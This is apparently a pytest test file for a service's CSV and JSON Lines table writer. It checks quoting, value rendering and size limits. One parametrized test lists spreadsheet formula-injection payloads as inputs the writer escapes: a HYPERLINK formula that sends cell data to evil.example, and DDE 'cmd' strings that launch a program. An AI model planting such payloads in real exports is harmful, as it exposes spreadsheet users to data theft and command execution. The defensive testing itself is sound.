"""The forms of a table: what a reader of CSV and of JSON Lines makes of each value."""

import csv
import io
import json
from collections.abc import Sequence
from typing import Any

import pytest

from api.tables.forms import write_csv, write_ndjson


def unchecked(_: int) -> None:
    """Take a table of any length."""


def written(*rows: Sequence[Any], names: Sequence[str] = ("a", "b")) -> str:
    return write_csv(names, rows, unchecked).decode()


def cell(value: Any) -> str:
    """Return what a reader of CSV finds in a cell."""
    _, row = csv.reader(io.StringIO(written([value, "x"]), newline=""))
    return row[0]


def test_csv_is_as_in_rfc_4180() -> None:
    rows = [['with "quotes"', "a, b"], ["two\r\nlines", "Øresund"], [None, ""]]
    text = written(*rows)
    assert text == ('a,b\r\n"with ""quotes""","a, b"\r\n"two\r\nlines",Øresund\r\n,\r\n')
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["a", "b"], *rows[:2], ["", ""]]


def test_a_row_of_one_null_is_no_empty_line() -> None:
    assert written([None], ["x"], names=["a"]) == 'a\r\n""\r\nx\r\n'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (12, "12"),
        (0.1, "0.1"),
        ([1, None, "ä"], '[1,null,"ä"]'),
        ([], "[]"),
        ([["a"], []], '[["a"],[]]'),
    ],
)
def test_a_value_is_written_as_json_writes_it(value: Any, expected: str) -> None:
    assert cell(value) == expected


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1+1",
        "-",
        "- a dash",
        "+507 555 0100",
        "-1\n",
        "-٣",
    ],
)
def test_a_spreadsheet_takes_no_text_for_a_formula(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12.5", "+3", "-0", "a=1", "'=1", " =1", "1-2", "[=1]", "", "–"])
def test_a_number_and_other_texts_stay_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_a_list_is_no_formula() -> None:
    assert cell(["=1"]) == '["=1"]'


def test_lines_of_json_are_exact() -> None:
    rows = [["=1", None], [["a\nb"], 0.5]]
    body = write_ndjson(["x.y", "z"], rows, unchecked)
    assert body.endswith(b"\n")
    assert [json.loads(line) for line in body.splitlines()] == [
        {"x.y": "=1", "z": None},
        {"x.y": ["a\nb"], "z": 0.5},
    ]
    assert write_ndjson(["a"], [], unchecked) == b""


@pytest.mark.parametrize("write", [write_csv, write_ndjson])
def test_a_table_that_becomes_too_long_is_given_up(write: Any) -> None:
    taken = 0

    def rows() -> Any:
        nonlocal taken
        for taken in range(1_000):  # noqa: B007
            yield ["x" * 100]

    def check(length: int) -> None:
        if length > 1_000:
            raise OverflowError

    with pytest.raises(OverflowError):
        write(["a"], rows(), check)
    assert taken < 12
